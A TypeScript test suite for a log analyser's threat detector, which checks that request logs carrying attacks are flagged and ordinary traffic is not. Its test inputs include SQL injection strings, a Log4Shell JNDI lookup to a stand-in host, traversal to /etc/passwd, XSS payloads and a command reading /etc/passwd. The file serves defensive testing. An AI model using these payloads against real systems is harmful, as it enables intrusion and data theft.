import fc from 'fast-check';
import { ThreatEnricher } from '../../src/enrichment/threat.enricher';
import { THREAT_KINDS } from '../../src/enrichment/threats/threat-kind';
import { ThreatStrategy, threatVerdict } from '../../src/classification/threat.strategy';
import type { ClassifiedLog } from '../../src/core/log';
import { attacks, benign, logOf, requestLog, type ListedRequest, type Part } from './request-lists';

const enricher = new ThreatEnricher();

function threatsOf(log: ClassifiedLog): string[] {
  const fresh = { ...log, threats: [] };
  enricher.enrich(fresh);
  return fresh.threats;
}

function of(list: readonly ListedRequest[], part: Part): readonly ListedRequest[] {
  return list.filter((request) => request.part === part);
}

describe('threats in requests', () => {
  it('recognises every attack that the grammar was written with', () => {
    const missed = of(attacks(), 'tuned').filter(({ kind, log }) => !threatsOf(log).includes(kind ?? ''));
    expect(missed.map(({ kind, text }) => `${String(kind)}: ${text}`)).toEqual([]);
  });

  it('recognises attacks that it was not written with', () => {
    const list = of(attacks(), 'held-out');
    const found = list.filter(({ kind, log }) => threatsOf(log).includes(kind ?? ''));
    expect(list.length).toBeGreaterThan(150);
    expect(found.length / list.length).toBeGreaterThan(0.95);
  });

  it('leaves ordinary traffic alone', () => {
    const flagged = of(benign(), 'tuned').filter(({ log }) => threatsOf(log).length > 0);
    expect(flagged.map(({ text }) => text)).toEqual([]);
    const unseen = of(benign(), 'held-out');
    const wrong = unseen.filter(({ log }) => threatsOf(log).length > 0);
    expect(unseen.length).toBeGreaterThan(300);
    expect(wrong.length / unseen.length).toBeLessThan(0.005);
  });

  it('reads bodies, cookies and requests that other logs quote', () => {
    expect(threatsOf(requestLog('/login', 200, { method: 'POST', body: "user=admin'--&pass=x" }))).toEqual([
      'sql-injection',
    ]);
    expect(threatsOf(requestLog('/', 200, { cookie: 'id=${jndi:ldap://evil.example/a}' }))).toEqual(['log4shell']);
    const quoted =
      'open() "/srv/x" failed (2: No such file), request: "GET /?f=../../../etc/passwd HTTP/1.1", host: "a"';
    expect(threatsOf(logOf(quoted))).toEqual(['directory-traversal']);
    expect(
      threatsOf(
        logOf('', { http: { request: { method: 'GET' } }, url: { path: '/a', query: 'q=<svg onload=alert(1)>' } }),
      ),
    ).toEqual(['xss']);
  });

  it('reads a request line whose quotes nobody escaped, and JSON string by string', () => {
    const line = '203.0.113.9 - - [x] "GET /s?q="><script>alert("x")</script> HTTP/1.1" 200 12 "-" "Mozilla/5.0"';
    expect(threatsOf(logOf(line))).toEqual(['xss']);
    const body = JSON.stringify({ name: 'report', path: '../../../../etc/passwd' });
    expect(threatsOf(requestLog('/files', 200, { method: 'POST', body }))).toEqual(['directory-traversal']);
  });

  it('reads base64 that decodes to text', () => {
    const encoded = Buffer.from('<script>alert(1)</script>').toString('base64');
    expect(threatsOf(requestLog(`/show?d=${encoded}`, 200))).toEqual(['xss']);
    expect(threatsOf(requestLog(`/show?d=${Buffer.from('ordinary text, it is').toString('base64')}`, 200))).toEqual([]);
  });

  it('takes whole queries for ordinary where an interface asks for them', () => {
    const query = "SELECT+Id,Name+FROM+Account+WHERE+Industry='Media'";
    expect(threatsOf(requestLog(`/services/data/v57.0/query?q=${query}`, 200))).toEqual([]);
    expect(threatsOf(requestLog(`/services/data/v57.0/query?q=${query}+or+1=1--`, 200))).toEqual(['sql-injection']);
  });

  it.each([
    "LOG:  statement: SELECT * FROM users WHERE name = 'x' OR 1=1; DROP TABLE t; --",
    'ERROR: syntax error at or near "union" in \'select 1 union select 2\'',
    'COMMAND=/bin/cat /etc/passwd ; id',
    'render failed: <script>alert(1)</script> in template',
    'cron: (root) CMD (cd / && run-parts --report /etc/cron.hourly)',
  ])('does not take a log about statements and commands for an attack: %s', (message) => {
    expect(threatsOf(logOf(message, { query: message, path: '/etc/passwd', status: 'ok' }))).toEqual([]);
  });

  it('names the worst first', () => {
    expect(threatsOf(requestLog("/.env?a=<script>alert(1)</script>&b=1'+or+'1'='1", 404))).toEqual([
      'sql-injection',
      'xss',
      'scanner-probe',
    ]);
  });

  it('does not remember an attack in a header as harmless because another part was flagged first', () => {
    const both = { userAgent: "x' or '1'='1" };
    threatsOf(requestLog("/?q=x'+or+'1'='1", 200, both));
    expect(threatsOf(requestLog('/', 200, both))).toEqual(['sql-injection']);
    expect(threatsOf(requestLog('/', 200, both))).toEqual(['sql-injection']);
  });

  it('never throws and stays bounded on hostile text', () => {
    const seeds = attacks().map(({ text }) => text);
    const piece = fc.oneof(fc.constantFrom(...seeds), fc.string({ maxLength: 20, unit: 'binary' }));
    const text = fc.tuple(fc.array(piece, { maxLength: 6 }), fc.integer({ min: 1, max: 400 }));
    fc.assert(
      fc.property(text, fc.constantFrom('path', 'referrer', 'userAgent', 'body'), ([pieces, times], field) => {
        const hostile = pieces.join('').repeat(times).slice(0, 65_536);
        const found = threatsOf(requestLog('/', 200, { [field]: hostile }));
        expect(THREAT_KINDS).toEqual(expect.arrayContaining(found));
      }),
      { seed: 20_260_101, numRuns: 500 },
    );
  });
});

describe('the verdict on threats', () => {
  it('knows every kind', () => {
    for (const kind of THREAT_KINDS) {
      const verdict = threatVerdict({ ...logOf(''), threats: [kind] });
      expect(verdict).toMatchObject({
        category: 'Security Alert',
        decidedBy: 'regex',
        ruleId: `threat-${kind}`,
        confidence: 0.97,
      });
      expect(verdict?.suggestion).toMatch(/\w{3,} .*\.$/);
    }
  });

  it('goes by how the server answered', () => {
    const strategy = new ThreatStrategy();
    const [succeeded, failed, blocked, probe, clean] = strategy.classify([
      { ...requestLog('/', 200), threats: ['sql-injection'] },
      { ...requestLog('/', 500), threats: ['sql-injection'] },
      { ...requestLog('/', 403), threats: ['sql-injection', 'xss'] },
      { ...requestLog('/.env', 404), threats: ['scanner-probe'] },
      requestLog('/', 200),
    ]) as ReturnType<typeof threatVerdict>[];
    expect(succeeded).toMatchObject({ severity: 9, triage: 'incident' });
    expect(failed).toMatchObject({ severity: 8, triage: 'incident' });
    expect(blocked).toMatchObject({ severity: 7, triage: 'preventive_action', ruleId: 'threat-sql-injection' });
    expect(probe).toMatchObject({ severity: 5, triage: 'preventive_action' });
    expect(clean).toBeNull();
  });
});
